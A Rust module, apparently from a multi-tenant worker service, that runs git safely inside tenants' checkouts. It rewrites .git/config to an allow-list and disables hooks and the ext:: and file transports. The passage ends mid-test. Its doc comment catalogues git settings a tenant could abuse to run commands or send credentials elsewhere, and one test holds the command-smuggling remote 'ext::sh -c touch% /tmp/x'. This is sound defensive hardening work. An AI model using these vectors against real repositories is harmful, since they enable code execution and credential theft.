//! Every call of the `git` program lives here, and nowhere else.
//!
//! gix does our local work (status, staging, commits, refs), but it cannot push, switch a
//! worktree or reset, and its network transports would add minutes to a clean build. For clone,
//! fetch, switch and push we run `git` itself: never through a shell, with argv built from
//! validated ids only, no terminal prompts, stdin closed, and a time limit.
//!
//! # A tenant's repository never runs anything with the worker's rights
//!
//! The agent and the build run the tenant's code in the checkout, and can write its `.git`.
//! Git runs commands named in its configuration and in `.git/hooks`, and the repository's own
//! `.git/config` is read by every `git` call (and by gix): `filter.<driver>.clean`/`smudge`/
//! `process` run on checkout, switch, status and add for every path `.gitattributes` (which the
//! tenant also writes) gives that driver; `merge.<driver>.driver` on merge; `diff.external` and
//! `diff.<driver>.command`/`textconv` on diffs; `core.fsmonitor` on every index refresh;
//! `core.sshCommand`, `core.gitProxy`, `remote.<name>.uploadpack`/`receivepack` and
//! `credential.helper` on fetch and push (a credential helper is even handed the token on
//! success); `core.pager`, `core.editor`, `sequence.editor`; `include.path`/`includeIf` pull in
//! any other file as configuration; `url.<base>.insteadOf`, `remote.origin.pushurl` and
//! `http.*` send the worker's credentials elsewhere; `core.worktree` points the checkout at
//! another tenant's files; `protocol.<name>.allow` reopens transports. The driver names of
//! `filter.*`, `merge.*` and `diff.*` are the tenant's to choose, so no fixed list of `-c`
//! overrides can neutralise them, and `-c` does nothing for gix.
//!
//! So the worker owns `.git/config`: before every `git` call in a checkout, and before the gix
//! work that reads the worktree (`Workspace` calls [`GitProgram::secure_checkout`]), the file is
//! rewritten to what the worker itself needs and nothing else: the repository format (`core.
//! repositoryformatversion`, `extensions.objectformat`/`refstorage`), the file system facts a
//! clone records (`core.filemode`, `symlinks`, `ignorecase`, `precomposeunicode`, `bare =
//! false`, `logallrefupdates`), `remote.origin` with the configured remote's URL and the
//! standard fetch refspec, and each branch's `remote = origin`/`merge = refs/heads/...`. Every
//! other key is dropped, whatever its name, so a driver or a setting we never heard of cannot
//! survive either. The file is parsed (gix-config, no includes) only to read those few values;
//! what git then reads is the file we wrote, with values quoted by us, so a parser difference
//! can only lose an allowed value, never let another one through. Writing only when it differs
//! keeps the common case a read. A `.git` that is not a plain folder (a `gitdir:` file or a
//! symlink to another repository) or that has a `commondir` (its refs and config elsewhere) is
//! refused.
//!
//! On top of that, every call passes
//! - `core.hooksPath=/dev/null`: no hook runs (`.git/hooks` is the tenant's to write);
//! - `core.fsmonitor=false`;
//! - `protocol.ext.allow=never`: `ext::` runs a command as the "transport";
//! - `protocol.file.allow=never` unless the configured remote is itself a local path or a
//!   `file://` URL (tests, a volume of bare repositories): no `origin` can be pointed at another
//!   tenant's repository on this machine.
//!
//! and `GIT_ALLOW_PROTOCOL` is removed from git's environment (it would override those).
//! The operator's own configuration (`/etc/gitconfig`, the worker's `~/.gitconfig`: credential
//! helpers, `core.sshCommand`, proxies) is left as configured; keeping it out of a tenant's
//! reach is the sandbox's job.
//!
//! What this does not cover: a process of the tenant's that outlives its agent or build run and
//! rewrites `.git/config` between our check and git's read. Those are ended with their process
//! group; one that escaped it is the sandbox's to stop.
//!
//! Every error that leaves here is redacted (`crate::telemetry::redact`): the remote URL with its token is
//! in clone's argv and in git's messages.

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use tokio::process::Command;
use tokio_util::sync::CancellationToken;

use crate::telemetry::redact::redact_string;

/// Network operations (clone, fetch, push) may take a while on a big site; local ones are quick.
const NETWORK_TIMEOUT: Duration = Duration::from_secs(300);
const LOCAL_TIMEOUT: Duration = Duration::from_secs(60);

/// What went wrong running `git`. Argv and git's messages are redacted.
#[derive(Debug, thiserror::Error)]
pub enum GitCommandError {
    #[error("could not start `git`: {0}")]
    Spawn(#[source] std::io::Error),
    #[error("`git {args}` failed ({status}): {stderr}")]
    Failed {
        args: String,
        status: String,
        stderr: String,
    },
    /// The upstream answered and refused the push of one or more refs (a branch moved on, a
    /// fence that is not ours, a hook that declined): unlike an unreachable upstream, trying
    /// the same push again gets the same answer.
    #[error("the upstream refused `git {args}`: {}", describe_refused(.refused))]
    PushRefused {
        args: String,
        refused: Vec<RefusedRef>,
    },
    #[error("`git {args}` did not finish within {timeout:?}")]
    TimedOut { args: String, timeout: Duration },
    /// The lease this git worked under ended (issue 25): it was killed, or never started, so
    /// that a worker that lost its workspace does nothing more there.
    #[error("`git {args}` was stopped: this worker's lease on the workspace ended")]
    Stopped { args: String },
    #[error("refusing to run git in {dir}: {reason}")]
    Unsafe { dir: PathBuf, reason: String },
    #[error("could not rewrite {path}: {source}")]
    Config {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
}

/// A ref the upstream refused, from a `!` line of `git push --porcelain`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RefusedRef {
    /// The ref on the upstream (`refs/heads/...`).
    pub target: String,
    /// git's summary and reason: `[rejected] (fetch first)`, `[remote rejected] (...)`.
    pub reason: String,
}

fn describe_refused(refused: &[RefusedRef]) -> String {
    refused
        .iter()
        .map(|r| format!("{} {}", r.target, r.reason))
        .collect::<Vec<_>>()
        .join("; ")
}

/// The refused refs of `git push --porcelain`'s output: lines `!\t<from>:<to>\t<summary>`.
/// An atomic push refuses every ref once one is refused; they are all listed.
fn refused_refs(porcelain: &str) -> Vec<RefusedRef> {
    porcelain
        .lines()
        .filter_map(|line| {
            let mut fields = line.strip_prefix("!\t")?.splitn(2, '\t');
            let spec = fields.next()?;
            let target = spec.rsplit_once(':').map_or(spec, |(_, to)| to);
            Some(RefusedRef {
                target: target.to_owned(),
                reason: redact_string(fields.next().unwrap_or("").trim().to_owned()),
            })
        })
        .collect()
}

/// What git may do for one workspace, from its configured remote: which transports are open,
/// and what `origin` is.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct GitPolicy {
    /// The upstream as configured; a checkout's `origin` is always this.
    remote: Option<String>,
    /// The remote is a local path or a `file://` URL, so the file transport stays open.
    file_transport: bool,
}

impl GitPolicy {
    pub(crate) fn for_remote(remote: Option<&str>) -> GitPolicy {
        GitPolicy {
            remote: remote.map(str::to_owned),
            file_transport: remote.is_some_and(uses_file_transport),
        }
    }

    #[cfg(test)]
    pub(crate) fn allows_file_transport(&self) -> bool {
        self.file_transport
    }

    /// The `-c` settings every call carries.
    fn overrides(&self) -> Vec<&'static str> {
        let mut args = vec![
            "-c",
            "core.hooksPath=/dev/null",
            "-c",
            "core.fsmonitor=false",
            "-c",
            "protocol.ext.allow=never",
        ];
        if !self.file_transport {
            args.extend(["-c", "protocol.file.allow=never"]);
        }
        args
    }
}

/// Whether git reaches `remote` through its file transport: a `file://` URL, or a local path
/// (git's rule: no `:` at all, or a `/` before the first `:`; `host:path` is ssh, and
/// `helper::address` a remote helper).
fn uses_file_transport(remote: &str) -> bool {
    if let Some((scheme, _)) = remote.split_once("://") {
        return scheme.eq_ignore_ascii_case("file");
    }
    match (remote.find(':'), remote.find('/')) {
        (None, _) => true,
        (Some(colon), Some(slash)) => slash < colon,
        (Some(_), None) => false,
    }
}

/// The `git` program, run in one repository.
#[derive(Debug, Clone)]
pub struct GitProgram {
    /// The working directory of every call (`git -C` would work too; this keeps argv short).
    dir: PathBuf,
    policy: GitPolicy,
    /// `dir` is a checkout whose `.git/config` is made safe before each call (false for clone
    /// and `ls-remote`, which run outside any repository).
    checkout: bool,
    /// Cancelled when the lease of the work this git does ends: a call still running then is
    /// killed with everything it started, and no new one starts. A lost lease stops git at
    /// once, as it stops the agent and the build, not only the next push (issue 25). Never
    /// cancelled for calls outside a lease (clone into a fresh folder, `ls-remote`).
    stop: CancellationToken,
}

impl GitProgram {
    /// `git` in the checkout `dir` of a workspace whose remote gave `policy`.
    pub(crate) fn new(dir: impl Into<PathBuf>, policy: &GitPolicy) -> GitProgram {
        GitProgram {
            dir: dir.into(),
            policy: policy.clone(),
            checkout: true,
            stop: CancellationToken::new(),
        }
    }

    /// The same, stopped by `stop` (the holder's lease ended).
    pub(crate) fn stopped_by(mut self, stop: &CancellationToken) -> GitProgram {
        self.stop = stop.clone();
        self
    }

    /// `git` outside any repository (clone, `ls-remote`), for `remote`.
    fn outside(dir: impl Into<PathBuf>, remote: &str) -> GitProgram {
        GitProgram {
            dir: dir.into(),
            policy: GitPolicy::for_remote(Some(remote)),
            checkout: false,
            stop: CancellationToken::new(),
        }
    }

    /// Clone `remote` into `target`. `target` must not exist; the caller clones into a
    /// temporary folder and renames it, so an interrupted clone never looks like a workspace.
    pub(crate) async fn clone_into(remote: &str, target: &Path) -> Result<(), GitCommandError> {
        let parent = target.parent().unwrap_or(Path::new("."));
        let target = target.as_os_str().to_string_lossy().into_owned();
        // `--` ends the options: a remote that starts with `-` is still only a URL.
        GitProgram::outside(parent, remote)
            .run(
                &["clone", "--quiet", "--", remote, &target],
                NETWORK_TIMEOUT,
            )
            .await
            .map(drop)
    }

    /// Fetch every branch of `origin`, pruning deleted ones.
    pub(crate) async fn fetch(&self) -> Result<(), GitCommandError> {
        self.run(&["fetch", "--quiet", "--prune", "origin"], NETWORK_TIMEOUT)
            .await
            .map(drop)
    }

    /// Switch the worktree to an existing local branch.
    pub(crate) async fn switch(&self, branch: &str) -> Result<(), GitCommandError> {
        self.run(&["switch", "--quiet", branch], LOCAL_TIMEOUT)
            .await
            .map(drop)
    }

    /// Create `branch` at `start_point` and switch to it. With `track`, it follows `start_point`
    /// (a remote branch) for later pulls.
    pub(crate) async fn switch_create(
        &self,
        branch: &str,
        start_point: &str,
        track: bool,
    ) -> Result<(), GitCommandError> {
        let track = if track { "--track" } else { "--no-track" };
        self.run(
            &["switch", "--quiet", track, "-c", branch, start_point],
            LOCAL_TIMEOUT,
        )
        .await
        .map(drop)
    }

    /// Fast-forward the current branch to `upstream` when that is possible; a branch that has
    /// diverged is left as it is (the push will say so).
    pub(crate) async fn fast_forward(&self, upstream: &str) -> Result<(), GitCommandError> {
        self.run(&["merge", "--quiet", "--ff-only", upstream], LOCAL_TIMEOUT)
            .await
            .map(drop)
    }

    /// Merge `upstream` into the current branch (both sides have new commits), as `name`.
    pub(crate) async fn merge(
        &self,
        upstream: &str,
        name: &str,
        email: &str,
    ) -> Result<(), GitCommandError> {
        self.run_as(
            (name, email),
            &["merge", "--quiet", "--no-edit", "--no-ff", upstream],
        )
        .await
    }

    /// Abandon a merge that stopped on conflicts, leaving the branch as it was.
    pub(crate) async fn abort_merge(&self) {
        if let Err(e) = self.run(&["merge", "--abort"], LOCAL_TIMEOUT).await {
            tracing::warn!(error = %e, "could not abort the merge");
        }
    }

    /// Push `branch` to the same name on `origin`.
    pub(crate) async fn push(&self, branch: &str) -> Result<(), GitCommandError> {
        let refspec = format!("refs/heads/{branch}:refs/heads/{branch}");
        self.run_push(&["origin", &refspec]).await
    }

    /// Push the tip of `branch` to `saved_ref` on `origin` (a ref of its own under
    /// `refs/edit-worker/saved/`, which nothing else writes): where work that could not be
    /// pushed on its branch is kept (issue 25). Forced: the ref is this message's alone, and a
    /// later save of the same message carries everything the earlier one had.
    pub(crate) async fn push_saved(
        &self,
        branch: &str,
        saved_ref: &str,
    ) -> Result<(), GitCommandError> {
        let refspec = format!("+refs/heads/{branch}:{saved_ref}");
        self.run_push(&["origin", &refspec]).await
    }

    /// Push `branch` together with the lease's fence ref, atomically: the push goes through
    /// only while the upstream's fence is still `fence_commit` (this holder's token). A newer
    /// holder moves the fence first, so a holder that lost its lease pushes nothing.
    pub(crate) async fn push_fenced(
        &self,
        branch: &str,
        fence_ref: &str,
        fence_commit: &str,
    ) -> Result<(), GitCommandError> {
        let branch_spec = format!("refs/heads/{branch}:refs/heads/{branch}");
        let fence_spec = format!("{fence_commit}:{fence_ref}");
        let lease = format!("--force-with-lease={fence_ref}:{fence_commit}");
        self.run_push(&["--atomic", &lease, "origin", &branch_spec, &fence_spec])
            .await
    }

    /// Move the upstream's fence ref to `commit`, only if it is still `expected` (`None`: only
    /// if it does not exist yet).
    pub(crate) async fn move_fence(
        &self,
        fence_ref: &str,
        commit: &str,
        expected: Option<&str>,
    ) -> Result<(), GitCommandError> {
        let lease = format!("--force-with-lease={fence_ref}:{}", expected.unwrap_or(""));
        let spec = format!("{commit}:{fence_ref}");
        self.run_push(&[&lease, "origin", &spec]).await
    }

    /// The commit a ref of `origin` points at, if it exists there.
    pub(crate) async fn remote_ref(&self, name: &str) -> Result<Option<String>, GitCommandError> {
        let out = self
            .run(&["ls-remote", "origin", name], NETWORK_TIMEOUT)
            .await?;
        Ok(out
            .lines()
            .find(|l| l.split('\t').nth(1) == Some(name))
            .and_then(|l| l.split('\t').next())
            .map(str::to_owned))
    }

    /// Bring the objects of one ref of `origin` here (into `FETCH_HEAD`, no local ref).
    pub(crate) async fn fetch_ref(&self, name: &str) -> Result<(), GitCommandError> {
        self.run(&["fetch", "--quiet", "origin", name], NETWORK_TIMEOUT)
            .await
            .map(drop)
    }

    /// Point a local ref at `commit` (creating it).
    pub(crate) async fn update_ref(&self, name: &str, commit: &str) -> Result<(), GitCommandError> {
        self.run(&["update-ref", name, commit], LOCAL_TIMEOUT)
            .await
            .map(drop)
    }

    /// Put every change of the worktree (untracked files too) aside in a stash entry, leaving
    /// the worktree clean.
    pub(crate) async fn stash_all(
        &self,
        message: &str,
        name: &str,
        email: &str,
    ) -> Result<(), GitCommandError> {
        self.run_as(
            (name, email),
            &[
                "stash",
                "push",
                "--quiet",
                "--include-untracked",
                "-m",
                message,
            ],
        )
        .await
    }

    /// Make `branch` point at `start_point` (created or reset) and switch to it.
    pub(crate) async fn switch_reset(
        &self,
        branch: &str,
        start_point: &str,
    ) -> Result<(), GitCommandError> {
        self.run(
            &["switch", "--quiet", "--force", "-C", branch, start_point],
            LOCAL_TIMEOUT,
        )
        .await
        .map(drop)
    }

    /// Make the index and the worktree hold exactly `commit`'s tree where it differs from
    /// HEAD's (files it changes written, files it lacks removed; untracked and ignored ones
    /// stay), leaving HEAD where it is: a rollback's commit of that tree follows. Only the paths
    /// that differ are touched: the index gix writes has no file times, so a command that looks
    /// at the whole worktree (`read-tree -u`, `reset --hard`) would read every file again
    /// (seconds for a large site). git writes the files, never following a symlink.
    pub(crate) async fn checkout_tree_changes(&self, commit: &str) -> Result<(), GitCommandError> {
        let changes = self
            .run(
                &[
                    "diff",
                    "--name-status",
                    "--no-renames",
                    "-z",
                    "HEAD",
                    commit,
                ],
                LOCAL_TIMEOUT,
            )
            .await?;
        // `-z`: status NUL path NUL, for each path; names are never interpreted.
        let mut fields = changes.split('\0').filter(|f| !f.is_empty());
        let (mut write, mut remove) = (Vec::new(), Vec::new());
        while let (Some(status), Some(path)) = (fields.next(), fields.next()) {
            if status == "D" {
                remove.push(path);
            } else {
                write.push(path);
            }
        }
        // A few hundred paths a call keeps every argv far below the system's limit; literal
        // pathspecs: a file named `*` is that file, not every file.
        for chunk in write.chunks(200) {
            let mut args = vec!["--literal-pathspecs", "checkout", "--quiet", commit, "--"];
            args.extend_from_slice(chunk);
            self.run(&args, LOCAL_TIMEOUT).await?;
        }
        for chunk in remove.chunks(200) {
            let mut args = vec!["--literal-pathspecs", "rm", "--quiet", "--force", "--"];
            args.extend_from_slice(chunk);
            self.run(&args, LOCAL_TIMEOUT).await?;
        }
        Ok(())
    }

    /// Whether `remote` answers (`git ls-remote`), for `edit-worker doctor`.
    pub async fn ls_remote(remote: &str) -> Result<(), GitCommandError> {
        GitProgram::outside(std::env::temp_dir(), remote)
            .run(&["ls-remote", "--heads", "--", remote], NETWORK_TIMEOUT)
            .await
            .map(drop)
    }

    /// Make the checkout's `.git/config` the worker's again (see the module doc): only what the
    /// worker needs, `origin` the configured remote. Call before gix reads the worktree; every
    /// `git` call here does it itself.
    pub(crate) async fn secure_checkout(&self) -> Result<(), GitCommandError> {
        let dir = self.dir.clone();
        let remote = self.policy.remote.clone();
        match tokio::task::spawn_blocking(move || secure_config(&dir, remote.as_deref())).await {
            Ok(result) => result,
            Err(e) => Err(GitCommandError::Unsafe {
                dir: self.dir.clone(),
                reason: format!("checking the configuration ended unexpectedly: {e}"),
            }),
        }
    }

    /// Run git with `args` in this repository and return its stdout.
    /// A local command that writes a commit (merge, stash), as `who` (name, email): the
    /// worker's identity, not whatever the machine's git configuration says.
    async fn run_as(&self, who: (&str, &str), args: &[&str]) -> Result<(), GitCommandError> {
        let user = format!("user.name={}", who.0);
        let mail = format!("user.email={}", who.1);
        let mut full = vec!["-c", user.as_str(), "-c", mail.as_str()];
        full.extend_from_slice(args);
        self.run(&full, LOCAL_TIMEOUT).await.map(drop)
    }

    /// Run `git push --quiet --porcelain` with `args`: a refusal by the upstream is
    /// `PushRefused` (read from the porcelain lines, which is why this adds the flag), told
    /// apart from an upstream that could not be reached (`Failed`).
    async fn run_push(&self, args: &[&str]) -> Result<(), GitCommandError> {
        let mut full = vec!["push", "--quiet", "--porcelain"];
        full.extend_from_slice(args);
        let (output, joined) = self.output(&full, NETWORK_TIMEOUT).await?;
        if output.status.success() {
            return Ok(());
        }
        let refused = refused_refs(&String::from_utf8_lossy(&output.stdout));
        if refused.is_empty() {
            Err(failed(joined, &output))
        } else {
            Err(GitCommandError::PushRefused {
                args: joined,
                refused,
            })
        }
    }

    async fn run(&self, args: &[&str], timeout: Duration) -> Result<String, GitCommandError> {
        let (output, joined) = self.output(args, timeout).await?;
        if output.status.success() {
            Ok(String::from_utf8_lossy(&output.stdout).into_owned())
        } else {
            Err(failed(joined, &output))
        }
    }

    /// Run git with `args` here; its output, and `args` joined and redacted for messages.
    async fn output(
        &self,
        args: &[&str],
        timeout: Duration,
    ) -> Result<(std::process::Output, String), GitCommandError> {
        // The remote URL (with a token in it) is in clone's argv.
        let joined = redact_string(args.join(" "));
        if self.stop.is_cancelled() {
            return Err(GitCommandError::Stopped { args: joined });
        }
        if self.checkout {
            self.secure_checkout().await?;
        }
        let mut cmd = Command::new("git");
        // The checkout's own hooks and command-running settings never run with the worker's
        // rights: a tenant's agent or build can write `.git/hooks` or `.git/config`.
        cmd.args(self.policy.overrides())
            .args(args)
            .current_dir(&self.dir)
            // Never wait for a person: no prompts for credentials, no editor, no pager.
            .env("GIT_TERMINAL_PROMPT", "0")
            .env("GIT_EDITOR", "true")
            .env("GIT_PAGER", "cat")
            .env("LC_ALL", "C")
            // It would replace the `protocol.*.allow` settings above.
            .env_remove("GIT_ALLOW_PROTOCOL")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            // Its own process group: git starts helpers (index-pack, upload-pack, ssh, a remote
            // helper), and a git that is stopped or timed out ends with all of them.
            .process_group(0)
            .kill_on_drop(true);
        let child = cmd.spawn().map_err(GitCommandError::Spawn)?;
        // Whatever happens below, nothing this call started outlives it.
        let _group = GroupKill(child.id().map(|id| id as i32));
        tokio::select! {
            // A stop that comes together with the end still counts: the holder's lease is gone.
            biased;
            _ = self.stop.cancelled() => Err(GitCommandError::Stopped { args: joined }),
            _ = tokio::time::sleep(timeout) => Err(GitCommandError::TimedOut {
                args: joined,
                timeout,
            }),
            output = child.wait_with_output() => {
                Ok((output.map_err(GitCommandError::Spawn)?, joined))
            }
        }
    }
}

/// Kills the process group of a `git` call when the call is over, however it ended (done,
/// timed out, stopped, or its future dropped). After a normal end the group is usually empty
/// already; ESRCH is then the expected answer.
struct GroupKill(Option<i32>);

impl Drop for GroupKill {
    fn drop(&mut self) {
        crate::tenant::process::signal_group(self.0, nix::sys::signal::Signal::SIGKILL);
    }
}

/// A git call that ended badly, with its (redacted) stderr.
fn failed(args: String, output: &std::process::Output) -> GitCommandError {
    GitCommandError::Failed {
        args,
        status: output.status.to_string(),
        stderr: redact_string(String::from_utf8_lossy(&output.stderr).trim().to_owned()),
    }
}

/// Check the checkout at `dir` and rewrite its `.git/config` to `safe_config` of itself when
/// it differs.
fn secure_config(dir: &Path, remote: Option<&str>) -> Result<(), GitCommandError> {
    let unsafe_because = |reason: &str| GitCommandError::Unsafe {
        dir: dir.to_owned(),
        reason: reason.to_owned(),
    };
    let git_dir = dir.join(".git");
    match std::fs::symlink_metadata(&git_dir) {
        Ok(meta) if meta.is_dir() => {}
        Ok(_) => return Err(unsafe_because(".git is not a folder")),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(unsafe_because("it has no .git folder"));
        }
        Err(e) => return Err(unsafe_because(&format!(".git: {e}"))),
    }
    if std::fs::symlink_metadata(git_dir.join("commondir")).is_ok() {
        return Err(unsafe_because(
            ".git/commondir points the repository elsewhere",
        ));
    }
    let path = git_dir.join("config");
    let config_error = |source| GitCommandError::Config {
        path: path.clone(),
        source,
    };
    // A symlink's target is not ours to read: it counts as an empty file, and is replaced.
    let current = match std::fs::symlink_metadata(&path) {
        Ok(meta) if meta.is_file() => std::fs::read(&path).map_err(config_error)?,
        Ok(_) => Vec::new(),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
        Err(e) => return Err(config_error(e)),
    };
    let wanted = safe_config(&current, remote);
    if current == wanted.as_bytes() {
        return Ok(());
    }
    // Written beside it and renamed over it, as git does. `create_new` never follows a planted
    // symlink; a lock file left behind is ours to remove (one git call at a time per checkout).
    let lock = git_dir.join("config.lock");
    let write = || -> std::io::Result<()> {
        use std::io::Write;
        let mut file = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&lock)?;
        file.write_all(wanted.as_bytes())?;
        file.sync_all()
    };
    if let Err(e) = write() {
        if e.kind() != std::io::ErrorKind::AlreadyExists {
            return Err(config_error(e));
        }
        std::fs::remove_file(&lock).map_err(config_error)?;
        write().map_err(config_error)?;
    }
    std::fs::rename(&lock, &path).map_err(config_error)?;
    if !current.is_empty() {
        tracing::info!(dir = %dir.display(), "rewrote the checkout's .git/config: only the worker's own settings are kept");
    }
    Ok(())
}

/// The standard fetch refspec of `origin`.
const ORIGIN_FETCH: &str = "+refs/heads/*:refs/remotes/origin/*";

/// The configuration a checkout may have, from its current one (`current`, the bytes of
/// `.git/config`) and the configured remote: see the module doc. A file that does not parse
/// keeps nothing of its own.
fn safe_config(current: &[u8], remote: Option<&str>) -> String {
    let file = gix::config::File::from_bytes_no_includes(
        current,
        gix::config::file::Metadata::from(gix::config::Source::Local),
        gix::config::file::init::Options::default(),
    )
    .ok();
    let get = |key: &str| -> Option<String> {
        file.as_ref()
            .and_then(|f| f.string(key))
            .map(|v| v.to_string())
    };
    let boolean = |key: &str, default: Option<bool>| -> Option<bool> {
        match get(key).map(|v| v.trim().to_ascii_lowercase()).as_deref() {
            Some("true" | "yes" | "on" | "1") => Some(true),
            Some("false" | "no" | "off" | "0" | "") => Some(false),
            _ => default,
        }
    };
    let mut out = String::from("[core]\n");
    let version = match get("core.repositoryformatversion")
        .as_deref()
        .map(str::trim)
    {
        Some("1") => 1,
        _ => 0,
    };
    out.push_str(&format!("\trepositoryformatversion = {version}\n"));
    for (key, default) in [
        ("filemode", Some(true)),
        ("symlinks", None),
        ("ignorecase", None),
        ("precomposeunicode", None),
    ] {
        if let Some(value) = boolean(&format!("core.{key}"), default) {
            out.push_str(&format!("\t{key} = {value}\n"));
        }
    }
    out.push_str("\tbare = false\n\tlogallrefupdates = true\n");
    if version == 1 {
        let mut extensions = String::new();
        for (key, allowed) in [
            ("objectformat", &["sha1", "sha256"][..]),
            ("refstorage", &["files", "reftable"][..]),
        ] {
            if let Some(value) = get(&format!("extensions.{key}"))
                .map(|v| v.trim().to_ascii_lowercase())
                .filter(|v| allowed.contains(&v.as_str()))
            {
                extensions.push_str(&format!("\t{key} = {value}\n"));
            }
        }
        if !extensions.is_empty() {
            out.push_str("[extensions]\n");
            out.push_str(&extensions);
        }
    }
    // `origin` is the configured remote. Without one the worker never fetches or pushes; the
    // operator's URL stays for people who look at the checkout.
    let origin = match remote {
        Some(remote) => Some(remote.to_owned()),
        None => get("remote.origin.url"),
    };
    if let Some(url) = origin.filter(|u| !u.contains(['\n', '\0'])) {
        out.push_str("[remote \"origin\"]\n");
        out.push_str(&format!("\turl = {}\n", config_value(&url)));
        out.push_str(&format!("\tfetch = {ORIGIN_FETCH}\n"));
    }
    if let Some(sections) = file.as_ref().and_then(|f| f.sections_by_name("branch")) {
        let mut seen = std::collections::BTreeSet::new();
        for section in sections {
            let Some(name) = section.header().subsection_name() else {
                continue;
            };
            let name = name.to_string();
            let plain = !name.is_empty()
                && !name.contains(['"', '\\', '\n', '\0'])
                && !name.starts_with('-');
            if !plain || !seen.insert(name.clone()) {
                continue;
            }
            let remote_is_origin = section.value("remote").is_some_and(|v| v == "origin");
            let merge = section.value("merge").map(|v| v.to_string());
            let merge = merge.filter(|m| {
                m.starts_with("refs/heads/") && !m.contains(['"', '\\', '\n', '\0', ' ', '\t'])
            });
            if let (true, Some(merge)) = (remote_is_origin, merge) {
                out.push_str(&format!(
                    "[branch \"{name}\"]\n\tremote = origin\n\tmerge = {merge}\n"
                ));
            }
        }
    }
    out
}

/// A value as git's config syntax reads it back: bare when that is unambiguous, else quoted
/// with `\\`, `\"`, `\t` escaped.
fn config_value(value: &str) -> String {
    let bare = !value.is_empty()
        && !value.starts_with([' ', '\t'])
        && !value.ends_with([' ', '\t'])
        && !value.contains(['"', '\\', '#', ';', '\t', '\n', '\r']);
    if bare {
        return value.to_owned();
    }
    let mut quoted = String::from("\"");
    for c in value.chars() {
        match c {
            '\\' => quoted.push_str("\\\\"),
            '"' => quoted.push_str("\\\""),
            '\t' => quoted.push_str("\\t"),
            c => quoted.push(c),
        }
    }
    quoted.push('"');
    quoted
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::steps::git::test_support::git;

    /// A bare repository with one commit on `main`.
    fn bare(dir: &Path) -> PathBuf {
        let bare = dir.join("up.git");
        std::fs::create_dir_all(&bare).unwrap();
        git(&bare, &["init", "-q", "--bare", "-b", "main"]);
        let seed = dir.join("seed");
        std::fs::create_dir_all(&seed).unwrap();
        git(&seed, &["init", "-q", "-b", "main"]);
        std::fs::write(seed.join("a.txt"), "a\n").unwrap();
        git(&seed, &["add", "-A"]);
        git(&seed, &["commit", "-qm", "init"]);
        git(&seed, &["push", "-q", bare.to_str().unwrap(), "main"]);
        bare
    }

    #[test]
    fn file_transport_is_what_git_takes_for_local() {
        for local in [
            "/srv/git/c/p.git",
            "relative/path.git",
            "up.git",
            "file:///srv/git/c/p.git",
            "FILE:///x",
            "./a:b",
        ] {
            assert!(uses_file_transport(local), "{local}");
        }
        for remote in [
            "https://github.com/o/r.git",
            "https://x:tok@127.0.0.1:9/c/p.git",
            "ssh://git@host/r",
            "git@github.com:o/r.git",
            "host:path",
            "ext::sh -c touch% /tmp/x",
            "codecommit::us-east-1://repo",
        ] {
            assert!(!uses_file_transport(remote), "{remote}");
        }
        assert!(GitPolicy::for_remote(Some("/srv/x.git")).allows_file_transport());
        assert!(!GitPolicy::for_remote(Some("https://h/x.git")).allows_file_transport());
        assert!(!GitPolicy::for_remote(None).allows_file_transport());
        let https = GitPolicy::for_remote(Some("https://h/x.git")).overrides();
        assert!(https.contains(&"protocol.file.allow=never"));
        assert!(https.contains(&"protocol.ext.allow=never"));
        assert!(https.contains(&"core.hooksPath=/dev/null"));
        let local = GitPolicy::for_remote(Some("/srv/x.git")).overrides();
        assert!(!local.contains(&"protocol.file.allow=never"));
        assert!(local.contains(&"protocol.ext.allow=never"));
    }

    #[test]
    fn porcelain_refusals_are_read_ref_by_ref() {
        let out = "To /srv/up.git\n!\tHEAD:refs/heads/y\t[rejected] (atomic push failed)\n\
                   !\tabc:refs/edit-worker/lease/c/p\t[rejected] (stale info)\n \t\
                   refs/heads/z:refs/heads/z\t[up to date]\nDone\n";
        assert_eq!(
            refused_refs(out),
            vec![
                RefusedRef {
                    target: "refs/heads/y".into(),
                    reason: "[rejected] (atomic push failed)".into()
                },
                RefusedRef {
                    target: "refs/edit-worker/lease/c/p".into(),
                    reason: "[rejected] (stale info)".into()
                },
            ]
        );
        assert!(
            refused_refs("To /srv/up.git\n*\tHEAD:refs/heads/n\t[new branch]\nDone\n").is_empty()
        );
    }

    /// A lease that ends while git waits on an upstream that never answers stops git at once,
    /// with the helper it started (here `git-remote-http`, which holds the connection), and
    /// no git starts after it (issue 25). Before, the fetch waited out NETWORK_TIMEOUT
    /// (5 minutes) on a workspace that was another worker's by then.
    #[tokio::test]
    async fn a_stopped_git_ends_at_once_with_everything_it_started() {
        use tokio::io::AsyncReadExt;

        let dir = tempfile::tempdir().unwrap();
        let up = bare(dir.path());
        let ours = dir.path().join("ours");
        GitProgram::clone_into(up.to_str().unwrap(), &ours)
            .await
            .unwrap();
        // An upstream that accepts the connection and never says a word.
        let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let remote = format!("http://{}/up.git", silent.local_addr().unwrap());
        let stop = CancellationToken::new();
        let git = GitProgram::new(&ours, &GitPolicy::for_remote(Some(&remote))).stopped_by(&stop);
        let fetch = tokio::spawn(async move { git.fetch().await });
        let (mut connection, _) = silent.accept().await.unwrap();

        stop.cancel();
        // Generous for a starved machine; the fetch itself would wait 5 minutes.
        let ended = tokio::time::timeout(Duration::from_secs(20), fetch)
            .await
            .expect("the stopped fetch returns at once")
            .unwrap();
        assert!(
            matches!(ended, Err(GitCommandError::Stopped { .. })),
            "{ended:?}"
        );
        // The helper that held the connection is gone too: it closes (EOF or a reset).
        let mut buf = vec![0; 4096];
        let closed = tokio::time::timeout(Duration::from_secs(20), async {
            loop {
                match connection.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(_) => continue,
                }
            }
        })
        .await;
        assert!(
            closed.is_ok(),
            "git's http helper still holds the connection"
        );

        // A stopped lease starts nothing: not even a local command in a good checkout.
        let after = GitProgram::new(&ours, &GitPolicy::for_remote(up.to_str()))
            .stopped_by(&stop)
            .update_ref("refs/heads/after", "HEAD")
            .await;
